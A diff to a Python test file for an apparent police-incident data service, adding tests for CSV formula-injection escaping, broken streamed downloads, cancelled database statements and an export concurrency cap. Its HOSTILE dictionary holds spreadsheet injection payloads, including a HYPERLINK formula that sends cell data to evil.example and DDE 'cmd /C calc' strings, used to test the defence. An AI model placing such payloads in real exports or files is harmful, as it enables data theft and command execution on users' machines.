@@ -5,16 +5,21 @@ eastings and northings beside lon/lat, GeoJSON and FlatGeobuf; incidents at the 
 export audited; bad input a problem, never a 500."""
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import json
 import math
 import shutil
+import socket
 import subprocess
-from dataclasses import dataclass
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import geopandas
+import httpx
+import psycopg
 import pytest
 from pyproj import Transformer
 from sqlalchemy import text
@@ -371,3 +376,225 @@ async def test_bad_input_is_a_problem_never_a_500(client, world, path, params, s
 async def test_nobody_exports_without_signing_in(client, world):
     r = await client.get("/api/exports/incidents.csv")
     assert r.status_code == 401 and r.headers["content-type"].startswith("application/problem+json")
+
+
+# -- spreadsheets -------------------------------------------------------------------------------------
+HOSTILE = {  # police.uk column -> text a spreadsheet would run as a formula
+    "Crime type": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "Location": "+cmd|' /C calc'!A0",
+    "LSOA name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Last outcome category": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+async def test_csv_text_never_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(client, make_caller, settings,
+                                                                                     tmp_path):
+    """Partner data imported the normal way (a police.uk file), with text that Excel or LibreOffice
+    would take as formulas: the CSV export defends each such cell with a leading ' (OWASP), while
+    negative longitudes and every number stay plain numbers; other formats keep the text as it is."""
+    from rich.console import Console
+
+    from app.ingest.police_uk import import_paths
+    admin = await make_caller("hostile", "admin")
+    header = ["Crime ID", "Month", "Reported by", "Falls within", "Longitude", "Latitude", "Location", "LSOA code",
+              "LSOA name", "Crime type", "Last outcome category", "Context"]
+    row = {"Crime ID": "x1", "Month": "2024-01", "Reported by": "Test Constabulary",
+           "Falls within": "Test Constabulary", "Longitude": "-2.242600", "Latitude": "53.480800",
+           "LSOA code": "E01005001", "Context": "", **HOSTILE}
+    source = tmp_path / "2024-01-test-constabulary-street.csv"
+    with source.open("w", newline="", encoding="utf-8") as f:
+        writer = csv.DictWriter(f, header)
+        writer.writeheader()
+        writer.writerow(row)
+    assert await import_paths(settings, [source], "hostile", Console(file=io.StringIO())) is True
+
+    r = await client.get("/api/exports/incidents.csv", headers=admin.headers)
+    assert r.status_code == 200
+    [got] = list(csv.DictReader(io.StringIO(r.text)))
+    assert got["category"] == "'" + HOSTILE["Crime type"]
+    assert got["location_text"] == "'" + HOSTILE["Location"]
+    assert got["lsoa_name"] == "'" + HOSTILE["LSOA name"]
+    assert got["outcome"] == "'" + HOSTILE["Last outcome category"]
+    # numbers are written as numbers: a minus sign that is a number's is not defended
+    assert got["lon"].startswith("-2.2426") and float(got["lon"]) == pytest.approx(-2.2426)
+    x, y = bng(-2.2426, 53.4808)
+    assert float(got["easting"]) == pytest.approx(x, abs=0.01) and float(got["northing"]) == pytest.approx(y, abs=0.01)
+    assert got["id"].isdigit() and got["count"] == "1"
+    # only the CSV, which spreadsheets open, is defended: GeoJSON carries the text as it came
+    feature = (await client.get("/api/exports/incidents.geojson", headers=admin.headers)).json()["features"][0]
+    assert feature["properties"]["category"] == HOSTILE["Crime type"]
+    assert feature["properties"]["location_text"] == HOSTILE["Location"]
+
+
+def test_the_csv_guard_defends_text_at_any_number_of_positions_and_leaves_numbers():
+    from app.csv_cells import TRIGGERS, guard
+    for first in TRIGGERS:
+        assert guard([1])((7, first + "x", -2.24)) == [7, "'" + first + "x", -2.24]
+    assert guard([0, 2])(("=a", -2.24, "@b", None)) == ["'=a", -2.24, "'@b", None]
+    safe = ("Burglary", -2.24, "", None)
+    assert guard([0, 2, 3])(safe) is safe and guard([])(("=a",)) == ("=a",)
+
+
+# -- failures -----------------------------------------------------------------------------------------
+@pytest.fixture
+async def served(app) -> AsyncIterator[str]:
+    """The test app under uvicorn in this event loop, on a loopback port: what a client sees of a
+    broken answer is the server's doing, which the in-process transport does not show."""
+    import uvicorn
+    sock = socket.socket()
+    sock.bind(("127.0.0.1", 0))
+    server = uvicorn.Server(uvicorn.Config(app, lifespan="off", log_level="critical"))
+    serving = asyncio.create_task(server.serve(sockets=[sock]))
+    try:
+        while not server.started:
+            if serving.done():
+                await serving  # it failed to start: say why
+                raise RuntimeError("uvicorn stopped before it started")
+            await asyncio.sleep(0.01)
+        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
+    finally:
+        server.should_exit = True
+        await serving
+
+
+@dataclass
+class Held:
+    """The export's read, held at a point of the test's choosing (no timing involved)."""
+    before_rows: int
+    held: asyncio.Event = field(default_factory=asyncio.Event)
+    resume: asyncio.Event = field(default_factory=asyncio.Event)
+    backend: int | None = None
+
+    async def kill_backend(self, database_url: str) -> None:
+        await asyncio.wait_for(self.held.wait(), 60)
+        async with await psycopg.AsyncConnection.connect(database_url, autocommit=True) as admin:
+            await admin.execute("SELECT pg_terminate_backend(%s)", (self.backend,))
+        self.resume.set()
+
+
+@pytest.fixture
+def hold_export(monkeypatch):
+    """hold_export(n): the next export's read stops after n rows (chunks of 1 row) until resumed."""
+    from app.exports import query
+    real_stream = query.stream
+
+    def hold(before_rows: int) -> Held:
+        point = Held(before_rows)
+
+        async def stream(conn, sql, params, chunk=None):
+            point.backend = conn.get_server_pid()
+            if before_rows == 0:
+                point.held.set()
+                await point.resume.wait()
+            rows = 0
+            async for got in real_stream(conn, sql, params, 1):
+                yield got
+                rows += len(got)
+                if rows == before_rows:
+                    point.held.set()
+                    await point.resume.wait()
+
+        monkeypatch.setattr(query, "stream", stream)
+        return point
+
+    return hold
+
+
+@pytest.mark.parametrize("fmt", ["csv", "geojson"])
+async def test_a_streamed_export_the_database_fails_half_way_is_a_broken_download(served, hold_export, world,
+                                                                                 database_url, caplog, fmt):
+    """The export's database backend is killed after its first rows went out (status 200 and
+    headers sent): over real HTTP the client must see a transfer cut off, never a well-formed file
+    that silently lacks rows; and the failure is logged."""
+    point = hold_export(1)
+    async with httpx.AsyncClient(timeout=60) as http, \
+            http.stream("GET", f"{served}/api/exports/incidents.{fmt}", headers=world.admin.headers) as r:
+        assert r.status_code == 200
+        await point.kill_backend(database_url)
+        with pytest.raises(httpx.RemoteProtocolError, match="incomplete"):
+            await r.aread()
+    assert any("incidents." + fmt in rec.getMessage() and "cut off after 1 rows" in rec.getMessage()
+               for rec in caplog.records), [rec.getMessage() for rec in caplog.records]
+
+
+async def test_a_streamed_export_that_fails_before_its_first_row_is_a_problem_not_a_200(served, hold_export, world,
+                                                                                      database_url):
+    point = hold_export(0)
+    async with httpx.AsyncClient(timeout=60) as http:
+        answer = asyncio.create_task(http.get(f"{served}/api/exports/incidents.csv", headers=world.admin.headers))
+        await point.kill_backend(database_url)
+        r = await answer
+    assert r.status_code == 500 and r.headers["content-type"].startswith("application/problem+json")
+    assert "request id" in r.json()["detail"]
+
+
+
+@pytest.mark.parametrize("fmt", ["csv", "gpkg"])
+async def test_an_export_whose_statement_is_cancelled_before_its_first_row_is_a_503_to_narrow(client, hold_export,
+                                                                                             world, database_url,
+                                                                                             fmt):
+    """The export's statement waits on a lock and is cancelled (as statement_timeout would): a
+    problem saying it took too long, as for any other request, not a 500 or a 200 with no rows."""
+    point = hold_export(0)
+    answer = asyncio.create_task(client.get(f"/api/exports/incidents.{fmt}", headers=world.admin.headers))
+    await asyncio.wait_for(point.held.wait(), 60)
+    async with await psycopg.AsyncConnection.connect(database_url) as locker, \
+            await psycopg.AsyncConnection.connect(database_url, autocommit=True) as watcher:
+        await locker.execute("LOCK TABLE incident IN ACCESS EXCLUSIVE MODE")
+        point.resume.set()
+        # (watched from a connection outside any transaction: one sees pg_stat_activity as it was
+        # when its transaction first looked)
+        for _ in range(1200):  # up to a minute for the export's statement to reach the lock
+            waiting = await (await watcher.execute(
+                "SELECT wait_event_type = 'Lock' FROM pg_stat_activity WHERE pid = %s", (point.backend,))).fetchone()
+            if waiting and waiting[0]:
+                break
+            await asyncio.sleep(0.05)
+        await watcher.execute("SELECT pg_cancel_backend(%s)", (point.backend,))
+        await locker.rollback()
+    r = await answer
+    assert r.status_code == 503 and r.headers["content-type"].startswith("application/problem+json")
+    assert r.json()["title"] == "Too slow"
+
+
+# -- load ---------------------------------------------------------------------------------------------
+async def test_past_the_concurrency_cap_an_export_is_refused_503_with_retry_after(app, client, world, db):
+    """Every slot held (as running exports hold them): the next export is refused at once, a
+    problem with Retry-After, and not audited; once one is given back, exports run again."""
+    slots = app.state.export_slots
+    assert slots.free == slots.size == app.state.settings.resolved_export_concurrency()
+    held = [slots.take() for _ in range(slots.size)]
+    try:
+        for fmt in ("csv", "gpkg"):
+            r = await client.get(f"/api/exports/incidents.{fmt}", headers=world.admin.headers)
+            assert r.status_code == 503 and r.headers["content-type"].startswith("application/problem+json")
+            assert int(r.headers["retry-after"]) > 0 and "export" in r.json()["detail"]
+        assert (await db.execute(text("SELECT count(*) FROM audit_event WHERE action = 'export'"))).scalar_one() == 0
+    finally:
+        held.pop().release()
+    for fmt in ("csv", "geojson", "gpkg", "fgb"):
+        r = await client.get(f"/api/exports/incidents.{fmt}", headers=world.admin.headers)
+        assert r.status_code == 200
+    for slot in held:
+        slot.release()
+    assert slots.free == slots.size  # every export gave its slot back
+
+
+async def test_exports_that_fail_are_refused_or_are_abandoned_give_their_slot_back(app, client, served, hold_export,
+                                                                                     world):
+    slots = app.state.export_slots
+    for path in ("/api/exports/nothing.csv", "/api/exports/incidents.shp", "/api/exports/incidents.csv?from=x"):
+        assert (await client.get(path, headers=world.admin.headers)).status_code in (400, 404)
+    assert slots.free == slots.size
+    point = hold_export(1)
+    async with httpx.AsyncClient(timeout=60) as http, \
+            http.stream("GET", f"{served}/api/exports/incidents.csv", headers=world.admin.headers) as r:
+        assert r.status_code == 200
+        await asyncio.wait_for(point.held.wait(), 60)
+        assert slots.free == slots.size - 1  # held while the answer is being sent
+    point.resume.set()  # the client has gone half-way
+    for _ in range(1200):  # up to a minute for the server to notice (when it next writes)
+        if slots.free == slots.size:
+            break
+        await asyncio.sleep(0.05)
+    assert slots.free == slots.size
